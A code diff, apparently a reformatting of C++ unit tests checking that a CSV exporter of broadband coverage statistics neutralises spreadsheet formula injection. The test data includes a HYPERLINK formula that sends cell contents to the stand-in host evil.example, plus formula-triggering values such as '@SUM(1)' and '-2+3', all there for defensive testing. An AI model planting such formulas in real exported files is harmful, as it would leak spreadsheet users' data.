@@ -36,7 +36,8 @@ TEST(CsvText, NeutralisesEveryFormulaStart) {
   EXPECT_EQ(neutralise_formula_text(" =1"), " =1");
   EXPECT_EQ(neutralise_formula_text(""), "");
   // Quoting comes after neutralising: the quote is inside the CSV field.
-  EXPECT_EQ(csv_text_field(kHyperlink), R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""x"")")csv");
+  EXPECT_EQ(csv_text_field(kHyperlink),
+            R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""x"")")csv");
   EXPECT_EQ(csv_text_field("-1,5"), "\"'-1,5\"");
 }
 
@@ -69,13 +70,14 @@ class CsvInjectionTest : public ::testing::Test {
   // Hostile ids and names; Alpha's gigabit share falls from 100% to 50% (-50.00 points).
   static StatsTable table(std::uint64_t alpha_gigabit) {
     StatsTable t;
-    const std::string_view columns[] = {"level", "area_id", "area_name", "premises", "gigabit",
-                                        "gigabit_pct"};
+    const std::string_view columns[] = {"level",    "area_id", "area_name",
+                                        "premises", "gigabit", "gigabit_pct"};
     t.columns = ColumnCatalogue(CatalogueOptions{}).subset(columns);
     auto row = [&](std::string level, std::string id, std::string name, std::uint64_t premises,
                    std::uint64_t gigabit) {
-      t.rows.push_back({Cell(level), Cell(id), Cell(name), Cell(premises), Cell(gigabit),
-                        Cell(100.0 * static_cast<double>(gigabit) / static_cast<double>(premises))});
+      t.rows.push_back(
+          {Cell(level), Cell(id), Cell(name), Cell(premises), Cell(gigabit),
+           Cell(100.0 * static_cast<double>(gigabit) / static_cast<double>(premises))});
     };
     row("area", "+441234", kHyperlink, 2, alpha_gigabit);
     row("area", "-2+3", "@SUM(1)", 4, 4);
